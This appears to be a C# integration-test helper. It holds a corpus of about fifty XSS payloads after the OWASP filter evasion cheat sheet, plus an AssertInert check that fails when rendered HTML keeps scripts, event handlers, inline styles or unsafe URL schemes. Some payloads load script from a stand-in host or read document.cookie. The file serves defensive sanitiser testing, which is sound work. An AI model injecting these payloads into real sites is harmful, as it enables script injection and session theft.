using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace SmartRoom.IntegrationTests.Infrastructure;

/// <summary>
/// Cross-site scripting payloads after the OWASP XSS Filter Evasion Cheat Sheet (script tags in their many
/// spellings, event handlers, <c>javascript:</c> and <c>data:</c> URLs, obfuscated schemes, SVG, style and
/// meta refresh, broken markup), written into posts, comments and testimonials by the tests; and
/// <see cref="AssertInert"/>, which parses what a page or feed shows and fails on anything that would run.
/// </summary>
public static class XssCorpus
{
    public static readonly IReadOnlyList<string> Payloads =
    [
        "<script>alert('XSS')</script>",
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=//xss.example/.j>",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<svg/onload=alert('XSS')>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<button formaction=\"javascript:alert(1)\">go</button>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript&colon;alert(1)\">colon entity</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "[markdown link](javascript:alert('XSS'))",
        "[encoded](java&#x73;cript:alert(1))",
        "![markdown image](javascript:alert('XSS'))",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "\"><script>alert(document.domain)</script>",
        "'--><script>alert(1)</script>",
        "<x onclick=alert(1) contenteditable>click</x>",
    ];

    private static readonly string[] ForbiddenElements =
        ["script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "link", "meta", "style", "form", "input", "button", "noscript", "svg", "math"];

    private static readonly string[] UrlAttributes = ["href", "src", "action", "formaction", "background", "data", "xlink:href", "poster", "srcset"];

    /// <summary>
    /// Fails when the HTML fragment (as a page or feed shows it) holds a dangerous element, any event-handler
    /// attribute, an inline style, or a URL attribute with a scheme other than http, https or mailto.
    /// <paramref name="allowedElements"/> lets a whole page keep the few it carries on purpose (its own
    /// stylesheet link, its meta tags, its cookie form).
    /// </summary>
    public static void AssertInert(string html, string what, params string[] allowedElements)
    {
        var document = new HtmlParser().ParseDocument(html);
        foreach (var element in document.All)
        {
            var name = element.LocalName;
            if (ForbiddenElements.Contains(name) && !allowedElements.Contains(name))
            {
                throw new ShouldAssertException($"{what}: a <{name}> element survived: {element.OuterHtml}");
            }

            foreach (var attribute in element.Attributes)
            {
                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))
                {
                    throw new ShouldAssertException($"{what}: an event handler survived: {element.OuterHtml}");
                }

                if (attribute.Name.Equals("style", StringComparison.OrdinalIgnoreCase))
                {
                    throw new ShouldAssertException($"{what}: an inline style survived: {element.OuterHtml}");
                }

                if (UrlAttributes.Contains(attribute.Name.ToLowerInvariant()) && !IsSafeUrl(attribute.Value))
                {
                    throw new ShouldAssertException($"{what}: an unsafe URL survived: {element.OuterHtml}");
                }
            }
        }
    }

    private static bool IsSafeUrl(string value)
    {
        // Browsers ignore control characters and whitespace inside a scheme: strip them as they do.
        var squeezed = new string(value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray());
        var colon = squeezed.IndexOf(':');
        var slash = squeezed.IndexOfAny(['/', '?', '#']);
        if (colon < 0 || (slash >= 0 && slash < colon))
        {
            return true; // relative
        }

        var scheme = squeezed[..colon].ToLowerInvariant();
        return scheme is "http" or "https" or "mailto";
    }
}
